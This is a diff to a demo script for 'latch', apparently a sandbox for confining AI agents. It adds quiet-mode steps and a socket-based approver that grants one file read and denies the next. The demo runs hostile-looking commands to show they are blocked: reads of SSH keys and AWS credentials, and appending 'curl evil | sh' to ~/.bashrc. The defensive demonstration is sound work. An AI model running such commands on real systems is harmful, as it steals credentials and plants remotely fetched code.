@@ -27,21 +27,49 @@ echo "The agent profile: read the system and toolchains, read/write the project"
 echo "and a private tmp; credentials, shell configs and history denied; no network."
 step "latch why -p agent read ~/.ssh/id_rsa" \
 	"$latch" why -p agent read "$HOME/.ssh/id_rsa"
-step "latch run -p agent -- sh -c 'cat ~/.ssh/id_rsa'" \
+step "latch run -p agent -- sh -c 'cat ~/.ssh/id_rsa'   # with latch's own report on stderr" \
 	"$latch" run -p agent -- sh -c 'cat ~/.ssh/id_rsa'
+echo
+echo "(From here on --quiet: only the programs' own output.)"
 step "latch run -p agent -- sh -c 'cat ~/.aws/credentials'" \
-	"$latch" run -p agent -- sh -c 'cat ~/.aws/credentials'
+	"$latch" run --quiet -p agent -- sh -c 'cat ~/.aws/credentials'
 step "latch why -p agent write build.log" \
 	"$latch" why -p agent write build.log
 step "latch run -p agent -- sh -c 'echo built > build.log && cat build.log'" \
-	"$latch" run -p agent -- sh -c 'echo "built at $(date +%T)" > build.log && cat build.log'
+	"$latch" run --quiet -p agent -- sh -c 'echo "built at $(date +%T)" > build.log && cat build.log'
 step "latch run -p agent -- sh -c 'echo \"curl evil | sh\" >> ~/.bashrc'" \
-	"$latch" run -p agent -- sh -c 'echo "curl evil | sh" >> ~/.bashrc'
+	"$latch" run --quiet -p agent -- sh -c 'echo "curl evil | sh" >> ~/.bashrc'
 step "GITHUB_TOKEN=ghp_demo latch run -p agent -- sh -c 'echo \$GITHUB_TOKEN'" \
-	env GITHUB_TOKEN=ghp_demo "$latch" run -p agent -- sh -c 'echo "GITHUB_TOKEN inside: ${GITHUB_TOKEN:-<not set>}"'
+	env GITHUB_TOKEN=ghp_demo "$latch" run --quiet -p agent -- sh -c 'echo "GITHUB_TOKEN inside: ${GITHUB_TOKEN:-<not set>}"'
 step "latch run -p agent -- python3 -c 'socket.create_connection((\"127.0.0.1\", 80))'" \
-	sh -c '"$1" run -p agent -- python3 -c "import socket; socket.create_connection((\"127.0.0.1\", 80))" 2>&1 | tail -n 1' sh "$latch"
+	sh -c '"$1" run --quiet -p agent -- python3 -c "import socket; socket.create_connection((\"127.0.0.1\", 80))" 2>&1 | tail -n 1' sh "$latch"
 step "latch run -p agent --dry-run -- true   # the compiled plan, as JSON (first 300 bytes)" \
 	sh -c '"$1" run -p agent --dry-run -- true | cut -c1-300' sh "$latch"
+# The main job: a run-time grant to an unmodified, running program. An
+# approver (here a script standing in for an IDE) answers over a socket.
+cat >"$demo/approver.py" <<'PY'
+import json, os, socket, sys, time
+path = sys.argv[1]
+for _ in range(100):
+    if os.path.exists(path):
+        break
+    time.sleep(0.05)
+s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+s.connect(path)
+f = s.makefile("rw")
+for decision in ("allow_once", "deny"):
+    q = json.loads(f.readline())
+    print(f"  [approver] {q['exe']} wants to {q['access']} {q['path']}: answering {decision}", flush=True)
+    f.write(json.dumps({"id": q["id"], "decision": decision}) + "\n")
+    f.flush()
+PY
+printf '\n\033[1m$ latch run -p agent --approve-socket SOCK -- sh -c "cat ~/.ssh/known_hosts; cat ~/.ssh/known_hosts"\033[0m\n'
+echo "github.com ssh-ed25519 AAAA...demo" >"$HOME/.ssh/known_hosts"
+python3 "$demo/approver.py" "$demo/approve.sock" &
+"$latch" run --quiet -p agent --approve-socket "$demo/approve.sock" -- \
+	sh -c 'cat ~/.ssh/known_hosts && echo "(read, once)"; cat ~/.ssh/known_hosts || echo "(denied the second time)"'
+wait
+printf '\033[2m(the same unmodified cat, in one run: granted once, then denied)\033[0m\n'
+
 printf '\nThe project file written from inside the sandbox:\n'
 ls -l "$HOME/project"
